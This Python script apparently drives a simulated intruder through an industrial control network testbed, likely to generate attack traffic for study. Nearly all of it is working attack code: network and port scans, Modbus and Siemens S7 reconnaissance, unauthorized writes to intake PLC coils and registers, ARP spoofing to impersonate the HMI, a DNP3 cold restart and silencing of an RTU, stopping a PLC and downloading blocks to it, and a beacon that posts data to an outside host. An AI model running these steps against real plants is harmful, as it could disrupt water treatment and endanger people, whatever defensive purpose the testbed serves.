"""What the intruder does, a step at a time; the clients are the same stacks that the plant uses.

Raw frames are made for one thing only: telling the router whose card the HMI's address lives on.
"""
import errno
import http.client
import select
import socket
import struct
import subprocess
import time

from hosts import HOSTS, ZONES

ME = HOSTS["laptop"].ip
HMI = HOSTS["hmi"]
PORTS = (21, 22, 23, 80, 102, 443, 502, 1911, 2404, 4840, 20000, 44818)
CONTROLLERS = ("plc-intake", "plc-dosing", "rtu-hill", "plc-network")


def connect_sweep(targets, pause):
    """Half of a port scanner: many connects in flight, each given a second."""
    flying = {}
    for target in list(targets) + [None] * int(1.2 / pause):
        if target:
            s = socket.socket()
            s.setblocking(False)
            if s.connect_ex(target) == errno.EINPROGRESS:
                flying[s] = time.monotonic()
        _, ready, _ = select.select([], list(flying), [], 0)
        for s in list(flying):
            if s in ready or time.monotonic() - flying[s] > 1:
                s.close()
                del flying[s]
        time.sleep(pause)
    for s in flying:
        s.close()


def scan(run):
    subprocess.run(["sysctl", "-qw", "net.ipv4.neigh.eth0.mcast_solicit=1"], check=True)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for i in range(1, 255):	# the kernel asks who has each address; most datagrams never leave
        if f"10.20.2.{i}" != ME:
            try:
                s.sendto(b"\0", (f"10.20.2.{i}", 9))
            except OSError:
                pass
        time.sleep(0.01)
    s.close()
    connect_sweep([(f"10.20.1.{i}", 502) for i in range(1, 61)], 0.05)
    connect_sweep([(HOSTS[c].ip, p) for c in CONTROLLERS for p in PORTS], 0.03)


def modbus(host, source=ME):
    from pymodbus.client import ModbusTcpClient
    c = ModbusTcpClient(HOSTS[host].ip, source_address=(source, 0), timeout=1, retries=0)
    if not c.connect():
        raise SystemExit(f"{host}: no connection")
    return c


def ask(what, *args, **kw):
    """A refusal is an answer, too."""
    try:
        return what(*args, **kw)
    except Exception:
        return None


def recon_modbus(run):
    for host in ("plc-intake", "plc-dosing"):
        c = modbus(host)
        for code in (1, 2, 3):
            ask(c.read_device_information, read_code=code, device_id=1)
        ask(c.report_device_id, device_id=1)
        for unit in range(1, 17):
            ask(c.read_holding_registers, 0, count=1, device_id=unit)
            time.sleep(0.05)
        c.close()


def s7(rack=0, slot=2, kind=1):
    import snap7
    c = snap7.client.Client()
    c.set_connection_type(kind)
    c.connect(HOSTS["plc-network"].ip, rack, slot)
    return c


def recon_s7(run):
    from snap7.type import Block
    for rack, slot in ((0, 0), (0, 1), (0, 2), (0, 3), (1, 2)):
        c = ask(s7, rack, slot)
        time.sleep(0.3)
        if c:
            c.disconnect()
    c = s7()
    for szl, index in ((0x0000, 0), (0x0011, 0), (0x001c, 0), (0x0131, 1), (0x0232, 4), (0x0424, 0), (0x0074, 0)):
        ask(c.read_szl, szl, index)
        time.sleep(0.1)
    for f, *args in ((c.get_protection,), (c.list_blocks,), (c.list_blocks_of_type, Block.DB, 100), (c.get_block_info, Block.DB, 10)):
        ask(f, *args)
        time.sleep(0.1)
    c.disconnect()


def dnp3(what):
    """A master of its own, with a link address that the RTU does not know."""
    import opendnp3 as o
    from dnp3_parts import master
    m, soe = master("intruder", ME, HOSTS["rtu-hill"].ip, 77, 60, disableUnsolOnStartup=False, ignoreRestartIIN=True)
    m.Enable()
    time.sleep(2.5)
    what(o, m, soe)
    time.sleep(2.5)
    m.Disable()
    time.sleep(0.3)


def recon_dnp3(run):
    dnp3(lambda o, m, soe: m.ScanClasses(o.ClassField(True, False, False, False), soe))


def dnp3_restart(run):
    from dnp3_parts import k
    dnp3(lambda o, m, soe: m.Restart(o.RestartType.COLD, k(lambda *a: None)))


def dnp3_silence(run):
    dnp3(lambda o, m, soe: m.PerformFunction("quiet", o.FunctionCode.DISABLE_UNSOLICITED,
                                             [o.Header.AllObjects(60, v) for v in (2, 3, 4)]))


def write_modbus(run):
    c = modbus("plc-intake")
    for what, *args in ((c.write_coil, 0, False), (c.write_register, 3, 1000), (c.write_registers, 0, [350, 390]),
                        (c.write_coil, 2, False), (c.write_coil, 1, False)):
        ask(what, *args, device_id=1)
        time.sleep(1)
    c.close()


def claim(ip, mac):
    """A gratuitous ARP: `ip` is at `mac`.  Those who know the address believe it."""
    hw = bytes.fromhex(HOSTS["laptop"].mac.replace(":", ""))
    said, router = bytes.fromhex(mac.replace(":", "")), bytes.fromhex(ZONES["operations"][1].replace(":", ""))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind(("eth0", 0))
    addr = socket.inet_aton(ip)
    s.send(router + hw + struct.pack(">HHHBBH", 0x0806, 1, 0x0800, 6, 4, 2) + said + addr + router +
           socket.inet_aton(ZONES["operations"][0]))
    s.close()


def forged_write(run):
    subprocess.run(["ip", "addr", "add", HMI.ip + "/32", "dev", "eth0"], check=True)
    claim(HMI.ip, HOSTS["laptop"].mac)
    time.sleep(0.3)
    claim(HMI.ip, HOSTS["laptop"].mac)
    try:
        c = modbus("plc-intake", HMI.ip)
        ask(c.write_coil, 2, False, device_id=1)
        time.sleep(0.5)
        ask(c.write_coil, 1, False, device_id=1)
        time.sleep(0.3)
        c.close()
        time.sleep(0.3)
    finally:
        subprocess.run(["ip", "addr", "del", HMI.ip + "/32", "dev", "eth0"], check=True)
        claim(HMI.ip, HMI.mac)


def s7_upload(run):
    from snap7.type import Block
    c = s7()
    for kind, number in ((Block.OB, 1), (Block.DB, 10)):
        c.full_upload(kind, number)
        time.sleep(0.5)
    c.disconnect()


def s7_stop(run):
    c = s7()
    c.plc_stop()
    time.sleep(0.5)
    ask(c.get_cpu_state)
    c.disconnect()


def s7_download(run):
    from plc_network import block
    c = s7()
    c.download(bytearray(block(0x0c, 7, 480)), 7)
    time.sleep(0.5)
    c.disconnect()


def s7_start(run):
    c = s7()
    c.plc_hot_start()
    time.sleep(0.5)
    ask(c.get_cpu_state)
    c.disconnect()


def outside(run):
    """On the historian: something on it calls home."""
    import random
    import office
    me = HOSTS["historian"].ip
    office.resolve(me, "updates.example.net", random.Random(run.rng.random()))
    c = http.client.HTTPConnection(HOSTS["outside"].ip, 8080, timeout=5, source_address=(me, 0))
    c.request("POST", "/c/9f31", body=run.rng.randbytes(24 << 10), headers={"User-Agent": "curl/7.88"})
    c.getresponse().read()
    c.close()


def main(run, step):
    globals()[step.replace("-", "_")](run)
